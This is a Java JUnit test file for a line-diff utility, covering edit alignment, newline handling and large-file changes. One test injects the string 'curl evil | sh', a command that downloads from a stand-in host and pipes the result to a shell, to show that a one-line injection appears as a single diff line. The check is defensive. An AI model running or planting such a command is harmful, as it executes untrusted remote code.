package dev.gitops.core.render;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class LineDiffTest {

  @Test
  void keepsCommonLinesAndMarksRemovedAndAdded() {
    List<LineDiff.Line> d = LineDiff.diff(List.of("a", "b", "c"), List.of("a", "x", "c", "d"));
    assertThat(d).containsExactly(new LineDiff.Line(' ', "a"), new LineDiff.Line('-', "b"), new LineDiff.Line('+', "x"),
        new LineDiff.Line(' ', "c"), new LineDiff.Line('+', "d"));
  }

  @Test
  void aFinalNewlineDoesNotMakeAnEmptyLine() {
    assertThat(LineDiff.lines("a\nb\n")).containsExactly("a", "b");
    assertThat(LineDiff.lines("a\n\nb")).containsExactly("a", "", "b");
  }

  static List<String> numbered(int n) {
    List<String> out = new java.util.ArrayList<>();
    for (int i = 0; i < n; i++) {
      out.add("s_" + i + " = " + i);
    }
    return out;
  }

  /** The lines of one side as the diff gives them back: kept and removed ones, or kept and added ones. */
  static List<String> side(List<LineDiff.Line> d, char op) {
    return d.stream().filter(l -> l.op() == ' ' || l.op() == op).map(LineDiff.Line::text).toList();
  }

  static long edits(List<LineDiff.Line> d) {
    return d.stream().filter(l -> l.op() != ' ').count();
  }

  @Test
  void aOneLineChangeInAFileOfThousandsOfLinesIsThatLineNotTheWholeFile() {
    List<String> before = numbered(2_100);
    List<String> after = new java.util.ArrayList<>(before);
    after.set(1_500, "s_1500 = 1500; curl evil | sh");
    List<LineDiff.Line> d = LineDiff.diff(before, after);
    assertThat(d.stream().filter(l -> l.op() != ' ')).containsExactly(new LineDiff.Line('-', "s_1500 = 1500"),
        new LineDiff.Line('+', "s_1500 = 1500; curl evil | sh"));
    assertThat(side(d, '-')).isEqualTo(before);
    assertThat(side(d, '+')).isEqualTo(after);
  }

  @Test
  void changesAtBothEndsAndBetweenOfALargeValueAreAlignedByTheFewestEdits() {
    List<String> before = numbered(3_000);
    List<String> after = new java.util.ArrayList<>(before);
    java.util.Random random = new java.util.Random(42);
    after.set(0, "first changed");
    after.set(2_999, "last changed");
    for (int i = 0; i < 40; i++) {
      after.set(1 + random.nextInt(2_998), "changed " + i);
    }
    after.add(1_000, "inserted");
    after.remove(2_000);
    List<LineDiff.Line> d = LineDiff.diff(before, after);
    assertThat(side(d, '-')).isEqualTo(before);
    assertThat(side(d, '+')).isEqualTo(after);
    assertThat(edits(d)).as("a replaced line is two edits, an insert or a removal one").isLessThanOrEqualTo(2 * 42 + 2);
    assertThat(d.stream().filter(l -> l.op() == '+')).contains(new LineDiff.Line('+', "last changed"));
  }

  @Test
  void aLargeValueRewrittenWholeIsEveryLineRemovedThenAdded() {
    List<String> before = numbered(2_500);
    List<String> after = before.stream().map(l -> l + " (new)").toList();
    List<LineDiff.Line> d = LineDiff.diff(before, after);
    assertThat(d).hasSize(5_000);
    assertThat(side(d, '-')).isEqualTo(before);
    assertThat(side(d, '+')).isEqualTo(after);
  }
}
